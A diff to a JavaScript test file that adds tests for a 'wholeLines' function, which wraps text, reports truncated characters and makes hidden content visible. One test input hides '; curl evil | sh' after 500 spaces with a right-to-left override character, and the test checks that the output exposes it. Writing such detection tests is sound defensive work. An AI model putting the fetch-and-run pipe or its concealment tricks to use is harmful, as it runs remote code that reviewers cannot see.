@@ -1,6 +1,26 @@
 import assert from 'node:assert/strict';
 import fc from 'fast-check';
-import { manyLines, oneLine, shownPath, withoutLinks } from '../../../src/core/plainText';
+import {
+  manyLines,
+  oneLine,
+  shownPath,
+  wholeLines,
+  withoutLinks,
+} from '../../../src/core/plainText';
+
+describe('wholeLines', () => {
+  it('leaves nothing out without saying so', () => {
+    assert.deepEqual(wholeLines('npm test', 100, 3), ['npm test']);
+    assert.deepEqual(wholeLines('abcdefg', 3, 3), ['abc', 'def', 'g']);
+    assert.deepEqual(wholeLines('abcdefg', 2, 2), [
+      'ab',
+      'cd',
+      'and 3 more characters, which you do not see',
+    ]);
+    const script = `mocha${' '.repeat(500)}; curl evil | sh \u202E`;
+    assert.deepEqual(wholeLines(script, 100, 3), ['mocha ; curl evil | sh \\u{202E}']);
+  });
+});
 
 describe('manyLines', () => {
   it('keeps lines, tabs and length, and spells out what a terminal obeys', () => {
